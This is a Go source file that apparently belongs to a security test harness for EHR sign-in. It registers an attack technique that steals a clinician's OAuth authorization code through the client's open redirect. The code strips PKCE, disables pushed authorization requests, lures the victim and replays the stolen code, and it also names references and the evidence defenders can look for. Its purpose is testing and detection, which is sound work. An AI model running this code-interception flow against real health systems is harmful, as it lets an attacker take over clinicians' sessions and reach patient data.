package attacker

import (
	"context"
	"net/url"
)

var _ = register("R-02", Technique{
	Title: "A client's own page passes codes on",
	Story: "The EHR has a page that sends browsers on to wherever its link says. The thief makes a sign-in link that has the answer sent to that page, and on from " +
		"there to his site. A clinician follows it, and her code ends up with him; he puts it into a sign-in of his own.",
	Reads:    []string{"RFC 9700 s4.11.1, s4.1.1", "FAPI 2.0 SP 5.3.3.1-4"},
	Evidence: "Authorization requests with an address of the client's that is no callback; redirects of the client's to a site it has nothing to do with.",
	Run: func(ctx context.Context, g Ground) error {
		s := newSite(g)
		c := noCredentials
		c.ClientID = g.Target().ClientID
		c.RedirectURI = g.Target().ClientURL + "/continue?" + url.Values{"to": {s.url + "/callback"}}.Encode()
		a, err := newApp(ctx, g, c)
		if err != nil {
			return err
		}
		a.meta.RequirePAR = false // a link of the thief's own
		own, err := beginSignIn(ctx, g)
		if err != nil {
			return err
		}
		z, err := a.authorize(ctx, "openid user/*.rs", g.Target().FHIRBase, func(form url.Values) {
			form.Del("code_challenge")
			form.Del("code_challenge_method")
		})
		if err != nil {
			return err
		}
		if err := g.Lure(z.url); err != nil {
			return err
		}
		code := s.code()
		if code == "" {
			return ErrStopped
		}
		_, err = g.Browser().Visit(ctx, withCode(own, code), "")
		return err
	},
})
